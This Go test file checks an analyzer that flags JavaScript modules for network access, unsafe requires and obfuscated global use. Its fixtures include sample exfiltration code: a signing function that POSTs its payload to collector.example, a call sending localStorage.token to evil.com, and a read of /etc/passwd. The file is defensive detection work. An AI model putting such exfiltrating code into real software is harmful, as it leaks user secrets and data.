package analyzer

import (
	"crypto/sha256"
	"encoding/hex"
	"reflect"
	"strings"
	"testing"
)

const cleanModuleSrc = `import { createHash } from "node:crypto";

export function sign(payload) {
	return createHash("sha256").update(payload).digest("hex");
}
`

const exfiltratingModuleSrc = `import { createHash } from "crypto";

export async function sign(payload) {
	await fetch("https://collector.example/c", { method: "POST", body: payload });
	return createHash("sha256").update(payload).digest("hex");
}
`

func TestAnalyzeCleanCryptoModule(t *testing.T) {
	a := New(nil)
	report := a.Analyze([]byte(cleanModuleSrc))

	sum := sha256.Sum256([]byte(cleanModuleSrc))
	if want := hex.EncodeToString(sum[:]); report.SourceHash != want {
		t.Errorf("SourceHash = %q, want %q", report.SourceHash, want)
	}
	if report.CanAccessExternal {
		t.Errorf("CanAccessExternal = true, findings: %v", report.Findings)
	}
	if report.CryptoUsage != CryptoBuiltinOnly {
		t.Errorf("CryptoUsage = %q, want %q", report.CryptoUsage, CryptoBuiltinOnly)
	}
	if !reflect.DeepEqual(report.DeclaredImports, []string{"node:crypto"}) {
		t.Errorf("DeclaredImports = %v", report.DeclaredImports)
	}
	if len(report.AccessedGlobals) != 0 {
		t.Errorf("AccessedGlobals = %v, want none", report.AccessedGlobals)
	}
}

func TestAnalyzeCleanCommonJSModule(t *testing.T) {
	src := `const { createHmac } = require("crypto");
module.exports = {
	sign(data, key) { return createHmac("sha256", key).update(data).digest("hex"); },
};
`
	report := New(nil).Analyze([]byte(src))
	if report.CanAccessExternal {
		t.Errorf("CanAccessExternal = true, findings: %v", report.Findings)
	}
	if report.CryptoUsage != CryptoBuiltinOnly {
		t.Errorf("CryptoUsage = %q, want %q", report.CryptoUsage, CryptoBuiltinOnly)
	}
	if !reflect.DeepEqual(report.DeclaredRequires, []string{"crypto"}) {
		t.Errorf("DeclaredRequires = %v", report.DeclaredRequires)
	}
}

func TestAnalyzeInlineRequireInArrow(t *testing.T) {
	src := `module.exports = { f: () => require('crypto').createHash('sha256') }`
	report := New(nil).Analyze([]byte(src))
	if report.CanAccessExternal {
		t.Errorf("CanAccessExternal = true, findings: %v", report.Findings)
	}
	if !reflect.DeepEqual(report.DeclaredRequires, []string{"crypto"}) {
		t.Errorf("DeclaredRequires = %v", report.DeclaredRequires)
	}
}

func TestAnalyzeFlagsExfiltrationPair(t *testing.T) {
	src := `function evil(){ fetch('https://evil.com', {body: localStorage.token}); } module.exports={evil};`
	report := New(nil).Analyze([]byte(src))
	if !report.CanAccessExternal {
		t.Error("CanAccessExternal = false")
	}
	if !reflect.DeepEqual(report.AccessedGlobals, []string{"fetch", "localStorage"}) {
		t.Errorf("AccessedGlobals = %v", report.AccessedGlobals)
	}
}

func TestAnalyzeFlagsNetworkGlobal(t *testing.T) {
	report := New(nil).Analyze([]byte(exfiltratingModuleSrc))
	if !report.CanAccessExternal {
		t.Error("CanAccessExternal = false for module calling fetch")
	}
	if report.CryptoUsage != CryptoSuspicious {
		t.Errorf("CryptoUsage = %q, want %q", report.CryptoUsage, CryptoSuspicious)
	}
	if !reflect.DeepEqual(report.AccessedGlobals, []string{"fetch"}) {
		t.Errorf("AccessedGlobals = %v, want [fetch]", report.AccessedGlobals)
	}
}

func TestAnalyzeFlagsNonSafelistedRequire(t *testing.T) {
	src := `const fs = require("fs");
const http = require("http");
module.exports = () => fs.readFileSync("/etc/passwd");
`
	report := New(nil).Analyze([]byte(src))
	if !report.CanAccessExternal {
		t.Error("CanAccessExternal = false for fs/http requires")
	}
	if report.CryptoUsage != CryptoSuspicious {
		t.Errorf("CryptoUsage = %q", report.CryptoUsage)
	}
	if !reflect.DeepEqual(report.DeclaredRequires, []string{"fs", "http"}) {
		t.Errorf("DeclaredRequires = %v", report.DeclaredRequires)
	}
	joined := strings.Join(report.Findings, "\n")
	if !strings.Contains(joined, "import outside safelist: fs") {
		t.Errorf("findings missing fs violation: %v", report.Findings)
	}
}

func TestAnalyzeFailsClosedOnDynamicRequire(t *testing.T) {
	src := `const name = "fs";
const mod = require(name);
`
	report := New(nil).Analyze([]byte(src))
	if !report.CanAccessExternal {
		t.Error("CanAccessExternal = false for computed require target")
	}
	if report.CryptoUsage != CryptoSuspicious {
		t.Errorf("CryptoUsage = %q", report.CryptoUsage)
	}
	if len(report.DeclaredRequires) != 0 {
		t.Errorf("DeclaredRequires = %v, want none", report.DeclaredRequires)
	}
	if !strings.Contains(strings.Join(report.Findings, "\n"), "non-literal") {
		t.Errorf("findings = %v", report.Findings)
	}
}

func TestAnalyzeFlagsRequireAliasing(t *testing.T) {
	src := `const r = require;
module.exports = () => r("fs");
`
	report := New(nil).Analyze([]byte(src))
	if !report.CanAccessExternal {
		t.Error("CanAccessExternal = false for aliased require")
	}
	if !contains(report.AccessedGlobals, "require") {
		t.Errorf("AccessedGlobals = %v, want require flagged", report.AccessedGlobals)
	}
}

func TestAnalyzeObfuscatedGlobalAccess(t *testing.T) {
	cases := []struct {
		name string
		src  string
		want string
	}{
		{"template interpolation", "module.exports = () => `${fetch('x')}`;", "fetch"},
		{"globalThis member", `module.exports = () => globalThis.fetch("x");`, "globalThis"},
		{"shorthand property", `module.exports = { fetch };`, "fetch"},
	}
	for _, tc := range cases {
		t.Run(tc.name, func(t *testing.T) {
			report := New(nil).Analyze([]byte(tc.src))
			if !report.CanAccessExternal {
				t.Error("CanAccessExternal = false")
			}
			if !contains(report.AccessedGlobals, tc.want) {
				t.Errorf("AccessedGlobals = %v, want %q flagged", report.AccessedGlobals, tc.want)
			}
		})
	}
}

func TestAnalyzeImportAliasShadowsGlobal(t *testing.T) {
	src := `import { createHash as fetch } from "crypto";
export function sign(p) { return fetch("sha256").update(p).digest("hex"); }
`
	report := New(nil).Analyze([]byte(src))
	if report.CanAccessExternal {
		t.Errorf("CanAccessExternal = true, findings: %v", report.Findings)
	}
	if len(report.AccessedGlobals) != 0 {
		t.Errorf("AccessedGlobals = %v for import-bound name", report.AccessedGlobals)
	}
}

func TestAnalyzeFailsClosedOnParseError(t *testing.T) {
	for _, src := range []string{
		`function (`,
		`const x = import("crypto");`,
	} {
		report := New(nil).Analyze([]byte(src))
		if !report.ParseFailed {
			t.Errorf("ParseFailed = false for %q", src)
		}
		if !report.CanAccessExternal || report.CryptoUsage != CryptoSuspicious {
			t.Errorf("unparseable source not failed closed: %+v", report)
		}
	}
}

func TestAnalyzePureComputation(t *testing.T) {
	src := `function add(a, b) { return a + b; }
module.exports = add;
`
	report := New(nil).Analyze([]byte(src))
	if report.CanAccessExternal {
		t.Errorf("CanAccessExternal = true, findings: %v", report.Findings)
	}
	if report.CryptoUsage != CryptoNone {
		t.Errorf("CryptoUsage = %q, want %q", report.CryptoUsage, CryptoNone)
	}
}

func TestAnalyzeLocalShadowingSuppressesGlobal(t *testing.T) {
	src := `function run(fetch) {
	return fetch("data");
}
module.exports = run;
`
	report := New(nil).Analyze([]byte(src))
	if len(report.AccessedGlobals) != 0 {
		t.Errorf("AccessedGlobals = %v for parameter-shadowed name", report.AccessedGlobals)
	}
	if report.CanAccessExternal {
		t.Error("CanAccessExternal = true for shadowed fetch")
	}
}

func TestAnalyzeTopLevelRedefinitionStillFlags(t *testing.T) {
	src := `var fetch = function(u) { return u; };
fetch("x");
`
	report := New(nil).Analyze([]byte(src))
	if !contains(report.AccessedGlobals, "fetch") {
		t.Errorf("AccessedGlobals = %v, top-level fetch redefinition must still flag", report.AccessedGlobals)
	}
}

func TestAnalyzeFailsClosedOnWithStatement(t *testing.T) {
	src := `var o = {};
with (o) { x = 1; }
`
	report := New(nil).Analyze([]byte(src))
	if !report.CanAccessExternal || report.CryptoUsage != CryptoSuspicious {
		t.Errorf("with statement not failed closed: %+v", report)
	}
}

func TestAnalyzeDeterministic(t *testing.T) {
	first := New(nil).Analyze([]byte(exfiltratingModuleSrc))
	second := New(nil).Analyze([]byte(exfiltratingModuleSrc))
	if !reflect.DeepEqual(first, second) {
		t.Errorf("reports differ across runs:\n%+v\n%+v", first, second)
	}
}

func TestSummarize(t *testing.T) {
	report := New(nil).Analyze([]byte(cleanModuleSrc))
	s := report.Summarize()
	if !s.HasImports || s.HasRequires {
		t.Errorf("summary flags wrong: %+v", s)
	}
	if !reflect.DeepEqual(s.RequiredModules, []string{"node:crypto"}) {
		t.Errorf("RequiredModules = %v", s.RequiredModules)
	}
	if s.SourceHash != report.SourceHash {
		t.Error("summary hash mismatch")
	}
}
